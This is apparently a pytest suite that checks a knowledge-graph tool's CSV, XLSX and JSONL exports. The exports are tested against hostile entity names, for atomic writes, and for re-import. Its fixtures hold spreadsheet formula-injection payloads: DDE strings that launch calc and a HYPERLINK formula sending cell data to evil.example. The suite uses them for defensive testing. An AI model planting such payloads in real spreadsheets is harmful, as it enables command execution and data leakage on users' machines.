"""Exports of a store holding hostile text: formula prefixes, control characters, NUL,
very long strings, bidirectional and zero-width marks, emoji. Every format opens safely in a
spreadsheet, carries every entity, imports back, and a failed or killed export leaves the
target as it was."""

from __future__ import annotations

import csv
import json
import os
import re
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from xietong.api import Ecosystem
from xietong.store import schema
from xietong.store.cells import XLSX_MAX_CHARS, CellCleaner, is_formula_like

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
            "+SUM(1,2)", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1 制表符开头",
            "\r=2+2 回车开头"]
CONTROLS = ["小\x08大肠", "外套类\x7f", "C1\x85控制\x9b字符", "转义\x1b[31m红字"]
OTHERS = ["\u202e逆序\u200b零宽\ufeff公司", "分\u2028行", "😀表情🚀科技", "#N/A", "_x0041_ 转义"]
LONG = "长" * 40_000
DESCRIPTION = "=HYPERLINK(\"http://evil.example\")\x00\x07" + "简介" * 20_000
SOURCE = "@来源|' /C calc'!A0"
NUMBER = re.compile(r"-?\d+(\.\d+)?")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def hostile_store(eco: Ecosystem, *, long: bool = True) -> dict[int, str]:
    """The demo with hostile names given to enterprises nobody works for (an exported
    person's 任职于 cell names one organisation), a hostile description, a hostile source
    and a loss (a negative revenue). NUL only on SQLite: PostgreSQL text cannot hold it.
    Written straight to the tables: the importer cleans names now, stores built before
    it did hold such text (ChainKG's 小\\b大肠)."""
    eco.import_demo()
    names = FORMULAS + CONTROLS + OTHERS + ([LONG] if long else [])
    if eco.engine.dialect.name == "sqlite":
        names.append("零\x00字科技有限公司")
    e, f, s = schema.entities, schema.facts, schema.sources
    with eco.engine.begin() as conn:
        employers = select(f.c.object_id).where(f.c.predicate == "works_for")
        ids = conn.execute(select(e.c.id).where(
            e.c.type == "enterprise", e.c.id == e.c.canonical_id, e.c.id.not_in(employers))
            .order_by(e.c.id).limit(len(names))).scalars().all()
        assert len(ids) == len(names)
        for entity_id, name in zip(ids, names, strict=True):
            conn.execute(update(e).where(e.c.id == entity_id).values(name=name))
        described = conn.execute(select(f.c.id).where(f.c.predicate == "description")
                                 .order_by(f.c.id).limit(1)).scalar_one()
        description = DESCRIPTION if long else DESCRIPTION[:100]
        if eco.engine.dialect.name != "sqlite":
            description = description.replace("\x00", "")
        conn.execute(update(f).where(f.c.id == described)
                     .values(value=json.dumps(description, ensure_ascii=False)))
        loss = conn.execute(select(f.c.id).where(f.c.object_id.is_(None), f.c.id != described)
                            .order_by(f.c.id).limit(1)).scalar_one()
        conn.execute(update(f).where(f.c.id == loss)  # a loss: a genuine negative number
                     .values(subject_id=ids[0], predicate="revenue", value="-120.5", unit="万元"))
        conn.execute(update(s).values(name=SOURCE))
    return dict(zip(ids, names, strict=True))


def entity_id(eco: Ecosystem, entity_type: str, name: str) -> int:
    e = schema.entities
    with eco.engine.connect() as conn:
        return int(conn.execute(select(e.c.id).where(
            e.c.type == entity_type, e.c.name == name, e.c.id == e.c.canonical_id)).scalar_one())


def shown(text: str) -> str:
    """What openpyxl reads from the workbook for ``text``: control characters removed, cut
    to Excel's limit, a literal _xHHHH_ with its "_" escaped as the format requires (Excel
    decodes the escape, openpyxl leaves it)."""
    return re.sub(r"_(x[0-9A-Fa-f]{4}_)", r"_x005F_\1", CONTROL.sub("", text)[:XLSX_MAX_CHARS])


def test_cells_neutralise_formulas_and_control_characters() -> None:
    cleaner = CellCleaner()
    assert [cleaner.csv(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert cleaner.csv(-5) == -5 and cleaner.csv(-2.5) == -2.5 and cleaner.csv(None) is None
    assert cleaner.csv("'已转义") == "'已转义" and cleaner.csv("") == ""
    assert cleaner.csv("小\x08大肠") == "小大肠" and cleaner.csv("甲\t乙\n丙") == "甲\t乙\n丙"
    assert cleaner.xlsx("零\x00字") == "零字" and len(cleaner.xlsx(LONG)) == XLSX_MAX_CHARS
    assert (cleaner.cleaned, cleaner.neutralised, cleaner.truncated) == (2, len(FORMULAS), 1)
    assert not is_formula_like("") and not is_formula_like("模速空间")


def test_xlsx_has_every_entity_and_no_formula(eco: Ecosystem, tmp_path: Path) -> None:
    renamed = hostile_store(eco)
    path = tmp_path / "生态.xlsx"
    summary = eco.export(path)
    assert summary["files"] == [str(path)]
    assert summary["entities"] == eco.stats().entities
    assert summary["truncated"] >= 2 and summary["cleaned"] >= len(CONTROLS)
    assert summary["neutralised"] >= len(FORMULAS)
    with zipfile.ZipFile(path) as archive:  # no formula element anywhere
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(member)), member
    book = load_workbook(path)  # not data_only: a formula would show as its text
    assert book.sheetnames == ["实体", "关系", "属性"]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "inlineStr", "n"), (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert not CONTROL.search(cell.value)
                    assert len(cell.value) <= XLSX_MAX_CHARS
                    # what begins like a formula is text Excel will not re-read as one
                    assert cell.quotePrefix == is_formula_like(cell.value), cell.coordinate
    rows = list(book["实体"].iter_rows(values_only=True))
    header = rows[0]
    assert len(rows) - 1 == eco.stats().entities
    names = {r[2] for r in rows[1:]}
    assert {shown(n) for n in renamed.values()} <= names
    by_name = {r[2]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    loss = by_name[shown(FORMULAS[0])]["营业收入（万元）"]
    assert loss == -120.5  # a genuine negative number stays a number
    descriptions = [r[3] for r in book["属性"].iter_rows(values_only=True) if r[2] == "简介"]
    assert shown(DESCRIPTION) in descriptions
    sources = {r[7] for r in book["关系"].iter_rows(min_row=2, values_only=True)}
    assert sources == {SOURCE}


def test_csv_has_entities_with_attributes_and_relations(eco: Ecosystem,
                                                        tmp_path: Path) -> None:
    renamed = hostile_store(eco)
    path = tmp_path / "生态.csv"
    summary = eco.export(path)
    files = [path, tmp_path / "生态-关系.csv", tmp_path / "生态-属性.csv"]
    assert summary["files"] == [str(p) for p in files]
    tables = []
    for file in files:
        assert file.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads the BOM as UTF-8
        with file.open(encoding="utf-8-sig", newline="") as f:
            tables.append(list(csv.reader(f)))
    entities, relations, attributes = tables
    assert entities[0][:4] == ["id", "类型", "名称", "别名"]
    assert len(entities) - 1 == summary["entities"] == eco.stats().entities
    assert len(relations) - 1 == summary["relations"] > 0
    assert len(attributes) - 1 == summary["attributes"] > 0
    for table in tables:
        for row in table:
            for field in row:
                # a genuine number (-120.5) stays a number; text never begins a formula
                assert not is_formula_like(field) or NUMBER.fullmatch(field), field
                assert not CONTROL.search(field)
    by_name = {r[2]: dict(zip(entities[0], r, strict=True)) for r in entities[1:]}
    # every hostile name is there, a formula quoted out with a leading '
    for name in renamed.values():
        clean = CONTROL.sub("", name)
        assert ("'" + clean if is_formula_like(clean) else clean) in by_name
    # attributes in their columns: the park's enterprise count as the store has it
    park = eco.profile(str(entity_id(eco, "park", "模速空间")))
    count = next(a["value"] for a in park.attributes if a["key"] == "enterprise_count")
    row = next(r for r in entities[1:] if r[2] == "模速空间" and r[1] == "园区/载体")
    assert dict(zip(entities[0], row, strict=True))["企业数量（家）"] == str(count)
    assert by_name["'" + FORMULAS[0]]["营业收入（万元）"] == "-120.5"  # a number, unquoted
    assert {r[7] for r in relations[1:]} == {"'" + SOURCE}


def test_jsonl_keeps_every_value_exactly(eco: Ecosystem, tmp_path: Path) -> None:
    """JSON escapes control characters and runs no formula: the lossless export."""
    renamed = hostile_store(eco)
    path = tmp_path / "生态.jsonl"
    summary = eco.export(path)
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    names = {line["name"] for line in lines if "entity" in line}
    assert set(renamed.values()) <= names
    assert summary["entities"] == len(names) == eco.stats().entities
    assert summary["cleaned"] == summary["neutralised"] == summary["truncated"] == 0


def test_xlsx_with_hostile_names_imports_back(eco: Ecosystem, tmp_path: Path) -> None:
    """The tool's own workbook imports into a fresh store: the same entities by type and
    name (as Excel shows them: no control characters, _xHHHH_ decoded; the importer trims),
    and the same values."""
    def imported(text: str) -> str:
        return CONTROL.sub("", text).strip()

    renamed = hostile_store(eco, long=False)  # the importer refuses cells over 20,000 字
    path = tmp_path / "生态.xlsx"
    eco.export(path)
    copy = Ecosystem(str(tmp_path / "copy.db"))
    copy.init()
    try:
        copy.import_file(path)

        def entities(store: Ecosystem) -> list[tuple[str, str]]:
            e = schema.entities
            with store.engine.connect() as conn:
                return sorted((r.type, r.name) for r in conn.execute(
                    select(e.c.type, e.c.name).where(e.c.id == e.c.canonical_id)))

        assert entities(copy) == sorted((t, imported(n)) for t, n in entities(eco))
        for original, name in renamed.items():
            before = eco.profile(str(original))
            after = copy.profile(str(entity_id(copy, "enterprise", imported(name))))
            assert {(a["key"], json.dumps(a["value"])) for a in after.attributes} == \
                {(a["key"], json.dumps(a["value"])) for a in before.attributes}, name
    finally:
        copy.close()


# ChainKG's lines whose names hold control characters (a backspace, DEL), found in the full
# files beyond the slice's first rows
CHAINKG_CONTROL_LINES = {"product.jsonl": (7425, 10222, 60667),
                         "company_product.jsonl": (28188, 28189, 28190),
                         "product_product.jsonl": (47863,)}
CHAINKG_CONTROL_NAMES = ("小\x08大肠", "外套类\x7f", "上装类\x7f", "下装类\x7f")


def test_real_chainkg_control_characters_export(chainkg_slice: Path, data_dir: Path,
                                                tmp_path: Path) -> None:
    """The real ChainKG rows with 小\\b大肠 and 外套类\\x7f, which made the export die: the
    importer now cleans them, a store imported before it did keeps them (as written here),
    and the workbook opens with every entity either way."""
    for name, numbers in CHAINKG_CONTROL_LINES.items():
        lines = (data_dir / "chainkg" / name).read_text(encoding="utf-8").splitlines()
        with (chainkg_slice / name).open("a", encoding="utf-8") as f:
            f.writelines(lines[n - 1] + "\n" for n in numbers)
    eco = Ecosystem(str(tmp_path / "chainkg.db"))
    eco.init()
    try:
        eco.import_chainkg(chainkg_slice)
        e = schema.entities
        with eco.engine.begin() as conn:  # as an older store holds them
            for raw in CHAINKG_CONTROL_NAMES:
                changed = conn.execute(update(e).where(e.c.name.in_([raw, CONTROL.sub("", raw)]))
                                       .values(name=raw))
                assert changed.rowcount == 1, raw
        path = tmp_path / "chainkg.xlsx"
        summary = eco.export(path)
        assert summary["cleaned"] >= len(CHAINKG_CONTROL_NAMES)
        book = load_workbook(path, read_only=True)
        names = [r[2] for r in book["实体"].iter_rows(min_row=2, values_only=True)]
        book.close()
        assert len(names) == eco.stats().entities == summary["entities"]
        assert {"小大肠", "外套类", "上装类", "下装类"} <= set(names)
    finally:
        eco.close()


# -- failed and killed exports --------------------------------------------------------

@pytest.fixture
def demo_db(tmp_path: Path) -> Path:
    db = tmp_path / "demo.db"
    eco = Ecosystem(str(db))
    eco.init()
    eco.import_demo()
    eco.close()
    return db


def _old_files(folder: Path, names: list[str]) -> dict[str, bytes]:
    content = {}
    for name in names:
        (folder / name).write_bytes(f"旧的 {name}\n".encode())
        content[name] = (folder / name).read_bytes()
    return content


# In the child: the store is opened (SQLite maps its 32 KB -shm file), then no file may
# grow past 4 KB: writing more fails with EFBIG, as on a full disk, and the command runs
_FULL_DISK = """
import os, resource, signal, sys
from xietong.api import Ecosystem
store = Ecosystem(os.environ["XIETONG_DB"])
store.stats()
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
from xietong.cli.app import main
sys.argv = ["xietong", "export", sys.argv[1]]
main()
"""


@pytest.mark.parametrize("name,targets", [
    ("生态.csv", ["生态.csv", "生态-关系.csv", "生态-属性.csv"]),
    ("生态.xlsx", ["生态.xlsx"]), ("生态.jsonl", ["生态.jsonl"])])
def test_failed_export_leaves_the_targets_as_they_were(demo_db: Path, tmp_path: Path,
                                                       name: str, targets: list[str]) -> None:
    out = tmp_path / "out"
    out.mkdir()
    before = _old_files(out, targets)
    env = {**os.environ, "XIETONG_DB": str(demo_db), "LANG": "C.UTF-8", "LANGUAGE": ""}
    result = subprocess.run([sys.executable, "-c", _FULL_DISK, str(out / name)], env=env,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert f"{out / name}: 无法写入" in result.stderr and "目标文件未改动" in result.stderr
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # no .part left


# In the child: the real export, killed with SIGKILL after its 100th row
_KILLER = """
import os, signal, sys
import csv
from xietong.store import xlsx
rows = 0
def count() -> None:
    global rows
    rows += 1
    if rows == 100:
        os.kill(os.getpid(), signal.SIGKILL)
append = xlsx.Sheet.append
def counted_append(self, row):
    count()
    return append(self, row)
xlsx.Sheet.append = counted_append
class Writer:
    def __init__(self, inner):
        self.inner = inner
    def writerow(self, row):
        count()
        return self.inner.writerow(row)
writer = csv.writer
csv.writer = lambda out, *args, **kwargs: Writer(writer(out, *args, **kwargs))
from xietong.cli.app import main
sys.argv = ["xietong", "export", sys.argv[1]]
main()
"""


@pytest.mark.parametrize("name,targets", [
    ("生态.csv", ["生态.csv", "生态-关系.csv", "生态-属性.csv"]), ("生态.xlsx", ["生态.xlsx"])])
@pytest.mark.parametrize("existing", [True, False])
def test_killed_export_leaves_the_targets_as_they_were(demo_db: Path, tmp_path: Path,
                                                       name: str, targets: list[str],
                                                       existing: bool) -> None:
    out = tmp_path / "out"
    out.mkdir()
    before = _old_files(out, targets) if existing else {}
    env = {**os.environ, "XIETONG_DB": str(demo_db)}
    result = subprocess.run([sys.executable, "-c", _KILLER, str(out / name)], env=env,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == -signal.SIGKILL, result.stderr
    after = {p.name: p.read_bytes() for p in out.iterdir() if not p.name.endswith(".part")}
    assert after == before
    # what the killed export had written is in a hidden .part file beside the target
    assert all(p.name.startswith(tuple(f".{t}." for t in targets))
               for p in out.iterdir() if p.name.endswith(".part"))


def test_cli_reports_what_it_wrote(demo_db: Path, tmp_path: Path) -> None:
    """The command names every file it wrote and counts the entities (not 0, as the CSV
    export once said), in Chinese."""
    env = {**os.environ, "XIETONG_DB": str(demo_db), "LANG": "C.UTF-8", "LANGUAGE": ""}
    result = subprocess.run(
        [sys.executable, "-c", "from xietong.cli.app import main; main()", "export",
         str(tmp_path / "生态.csv")], env=env, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    entities = Ecosystem(str(demo_db)).stats().entities
    assert f"已导出 {entities:,} 个实体、" in result.stdout
    for name in ("生态.csv", "生态-关系.csv", "生态-属性.csv"):
        assert f"→ {tmp_path / name}" in result.stdout
    assert "Traceback" not in result.stdout + result.stderr
